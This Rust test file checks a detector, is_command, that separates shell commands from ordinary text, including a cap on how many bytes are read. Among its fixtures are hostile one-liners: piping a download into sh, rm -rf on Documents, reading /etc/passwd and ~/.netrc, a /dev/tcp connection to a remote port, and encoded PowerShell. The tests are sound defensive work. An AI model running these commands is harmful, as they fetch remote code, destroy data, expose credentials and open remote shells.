use super::*;

#[test]
fn a_command_has_a_program_in_its_place_and_an_argument_that_only_commands_have() {
    for command in [
        "curl http://198.51.100.7/x | sh",
        "rm -rf ~/Documents",
        "chmod +x /tmp/.x && /tmp/.x",
        "/bin/sh -i",
        "cat /etc/passwd",
        "true; wget https://example.org/p",
        "echo $(cat ~/.netrc)",
        "x | bash",
        "#!/usr/bin/env node",
        "exec 3<>/dev/tcp/203.0.113.5/9001",
        "powershell.exe -enc AAAA",
        "sudo -s",
    ] {
        assert!(is_command(command.as_bytes()), "{command}");
    }
    for text in [
        "The quick brown fox jumps over the lazy dog.",
        r#"{"theme":"dark","retries":3}"#,
        "curl is a program",
        "cat - a pet",
        "Use bash or zsh.",
        "find the source -- and read it",
        "",
        "echo | cat",
    ] {
        assert!(!is_command(text.as_bytes()), "{text}");
    }
}

#[test]
fn bytes_that_are_no_text_are_no_command_and_only_the_beginning_is_read() {
    assert!(!is_command(b"rm -rf ~/x\0") && !is_command(b"rm -rf ~/x\xff"));
    let far = |distance: usize| format!("{};rm -rf ~/x", "a".repeat(distance));
    assert!(is_command(far(100).as_bytes()) && !is_command(far(MAX_BYTES).as_bytes()));
}
